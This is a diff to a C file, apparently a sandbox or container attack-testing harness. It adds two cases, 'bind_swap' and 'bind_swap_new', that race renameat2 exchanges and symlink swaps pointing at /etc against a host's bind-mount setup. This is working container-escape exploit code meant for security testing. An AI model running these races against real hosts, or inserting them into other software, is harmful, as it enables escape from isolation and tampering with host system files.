@@ -468,6 +468,40 @@ static long attempt(const char *what, const char *arg)
 	/* --- sensitive binds (issue 9, attack 6) --- */
 	if (strcmp(what, "cgroup_escape") == 0) /* ARG: where the host's /sys/fs/cgroup is bound */
 		return cgroup_escape(arg);
+	/* --- bind source swaps (review r3) --- */
+	if (strcmp(what, "bind_swap") == 0) { /* ARG DIR: swap DIR/sub (a directory) with DIR/link (-> /etc), forever */
+		char sub[4096], link[4096];
+		snprintf(sub, sizeof sub, "%s/sub", arg);
+		snprintf(link, sizeof link, "%s/link", arg);
+		if ((mkdir(sub, 0755) < 0 && errno != EEXIST) || (symlink("/etc", link) < 0 && errno != EEXIST))
+			return -1;
+		printf("racing\n");
+		fflush(stdout);
+		for (;;)
+			if (syscall(SYS_renameat2, AT_FDCWD, sub, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */) < 0)
+				return -1;
+	}
+	if (strcmp(what, "bind_swap_new") == 0) { /* ARG DIR: DIR/new comes and goes as a link to /etc, forever */
+		char new[4096], link[4096], away[4096];
+		unsigned long moved = 0;
+		snprintf(new, sizeof new, "%s/new", arg);
+		snprintf(link, sizeof link, "%s/new-link", arg);
+		printf("racing\n");
+		fflush(stdout);
+		for (;;) {
+			if (symlink("/etc", link) < 0 && errno != EEXIST)
+				return -1;
+			rename(link, new); /* fails while a directory made by the host is there */
+			if (unlink(new) < 0 && errno == EISDIR) {
+				/* The host made it a directory (and maybe more in it): out of the way, one per start.
+				 */
+				snprintf(away, sizeof away, "%s/away-%lu", arg, moved++);
+				if (rename(new, away) < 0)
+					return -1;
+			}
+		}
+	}
+	/* --- end of bind source swaps --- */
 	errno = EINVAL;
 	fprintf(stderr, "cv-attack: unknown attempt %s\n", what);
 	return -1;
